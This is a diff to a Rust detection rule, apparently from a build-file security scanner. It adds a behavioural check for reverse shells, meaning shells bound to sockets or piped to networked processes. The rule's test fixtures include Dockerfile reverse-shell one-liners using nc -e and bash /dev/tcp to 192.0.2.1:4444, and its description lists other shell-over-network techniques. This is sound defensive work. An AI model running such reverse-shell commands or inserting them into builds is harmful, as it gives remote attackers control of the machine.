@@ -2,8 +2,9 @@
 
 use crate::facts::shell::{Arg, Command, Script};
 use crate::instruction::{Instruction, Source};
+use crate::policy::executed;
 use crate::policy::scripts;
-use crate::policy::{Found, Outline, Rule};
+use crate::policy::{Acts, Found, Outline, Rule};
 pub(in crate::policy) static RULE: Rule = Rule {
     id: "reverse-shell",
     title: "A backdoored reverse shell bypassed our egress filter.",
@@ -11,6 +12,7 @@ pub(in crate::policy) static RULE: Rule = Rule {
           `/dev/tcp/`, nc with -e or -c, an interactive shell on a socket, a named pipe between \
           nc and a shell, socat with EXEC, pty.spawn, `openssl s_client` before a shell.",
     text_check: Some(check),
+    behaviour_check: Some(check_behaviour),
     bad: &[
         "FROM busybox\nCMD [\"sh\", \"-c\", \"nc 192.0.2.1 4444 -e /bin/sh\"]\n",
         "FROM debian\nRUN bash -i >& /dev/tcp/192.0.2.1/4444 0>&1\n",
@@ -93,4 +95,37 @@ fn shells(script: &Script) -> Vec<(&Command, String)> {
         out.push((command, what));
     }
     out
+}
+
+fn check_behaviour(acts: &Acts<'_, '_>, found: &mut Found<'_>) {
+    for (act, seen) in acts.watched(found) {
+        let networked = executed::networked(seen);
+        for (index, program) in seen.execs.iter().enumerate() {
+            if !scripts::is_shell(program.name()) || program.script().is_some() {
+                continue;
+            }
+            let (Some(input), Some(output)) = (program.streams.get(&0), program.streams.get(&1))
+            else {
+                continue;
+            };
+            let socket = input == output && input.starts_with("inet:");
+            // A pipe each way between the shell and one that has a connection.
+            let paired = |other: &usize| {
+                let streams = &seen.execs[*other].streams;
+                *other != index
+                    && streams.get(&0) == Some(output)
+                    && streams.get(&1) == Some(input)
+                    && !input.starts_with("/dev/")
+                    && input != output
+            };
+            let by = networked.iter().find(|other| paired(other));
+            if socket || by.is_some() {
+                let message = format!("`{}` gives somebody elsewhere a shell", program.name());
+                let finding = act
+                    .finding(found, seen, Some(index), message)
+                    .help("take it out; a build has no business calling somebody for orders");
+                found.add(finding);
+            }
+        }
+    }
 }
